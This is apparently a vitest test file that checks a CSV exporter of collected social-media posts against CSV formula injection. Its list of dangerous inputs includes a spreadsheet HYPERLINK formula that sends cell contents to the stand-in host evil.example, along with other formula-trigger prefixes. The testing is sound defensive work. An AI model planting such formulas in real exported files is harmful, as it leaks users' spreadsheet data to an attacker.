import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { csvToPosts, neutraliseCell, postsToCsv } from '../../shared/domain/csv';
import type { CollectedPost } from '../../shared/domain/post';

const post = (content: string, author = 'someone'): CollectedPost => ({
  messageId: '1187654321098765432',
  date: '2026-11-23',
  time: '10:00:00',
  content,
  postLink: 'https://x.com/a/status/1',
  author,
  authorLink: 'https://x.com/a',
});

// OWASP, CSV Injection: no cell may begin with = + - @ tab, carriage return or line feed
// (https://owasp.org/www-community/attacks/CSV_Injection).
const DANGEROUS = [
  '=HYPERLINK("https://evil.example/?"&A1,"click")',
  '+1+2',
  '-2+3',
  '@SUM(A1:A2)',
  '\t=1+2',
  '\r=1+2',
  '\n=1+2',
];

describe('posts.csv against CSV injection', () => {
  it.each(DANGEROUS)('writes %j so no spreadsheet cell starts a formula', (content) => {
    // Act
    const csv = postsToCsv([post(content, content)]);

    // Assess: what a spreadsheet reads as the cell starts with a quote, not the trigger.
    const [row] = parse(csv, { columns: true }) as Record<string, string>[];
    expect(row?.content).toBe(`'${content}`);
    expect(row?.author).toBe(`'${content}`);
  });

  it.each([...DANGEROUS, "'quoted already", "''twice", "'=1+2", 'plain text', '', 'a=b', 'x-y @z'])(
    'reads %j back exactly as it was collected',
    (content) => {
      // Prepare
      const posts = [post(content, content)];

      // Act
      const back = csvToPosts(postsToCsv(posts));

      // Assess
      expect(back).toEqual(posts);
    },
  );

  it('leaves cells that start with anything else as they are', () => {
    // Act + Assess
    expect(neutraliseCell('https://x.com/a/status/1')).toBe('https://x.com/a/status/1');
    expect(neutraliseCell('2026-11-23')).toBe('2026-11-23');
    expect(neutraliseCell('1187654321098765432')).toBe('1187654321098765432');
  });
});
